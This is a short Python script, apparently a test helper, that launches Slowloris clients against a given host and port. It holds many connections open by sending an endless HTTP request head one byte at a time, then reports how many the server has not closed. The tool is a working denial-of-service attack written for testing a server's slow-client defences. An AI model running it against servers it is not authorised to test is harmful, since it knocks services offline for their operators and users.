"""Slowloris clients in their own process (the test process must stay under 1024 descriptors: Foundation's
Process.run crashes above it). Usage: slowloris.py HOST PORT COUNT INTERVAL_S SECONDS
Opens COUNT connections, sends one byte of an endless request head on each every INTERVAL_S, for SECONDS; prints
"open N of M": how many the server had not closed by then."""
import select
import socket
import sys
import time

host, port, count, interval, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
head = b"GET /healthz HTTP/1.1\r\nX-Slow: "
sockets = []
for _ in range(count):
    s = socket.create_connection((host, port))
    s.setblocking(False)
    sockets.append(s)
alive = [True] * len(sockets)
position = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    byte = head[position:position + 1] if position < len(head) else b"a"
    position += 1
    for i, s in enumerate(sockets):
        if not alive[i]:
            continue
        try:
            readable, _, _ = select.select([s], [], [], 0) if s.fileno() < 1024 else ([], [], [])
            if readable and s.recv(1, socket.MSG_PEEK) == b"":
                alive[i] = False
                continue
            s.send(byte)
        except OSError:
            alive[i] = False
    time.sleep(interval)
print(f"open {sum(alive)} of {count}", flush=True)
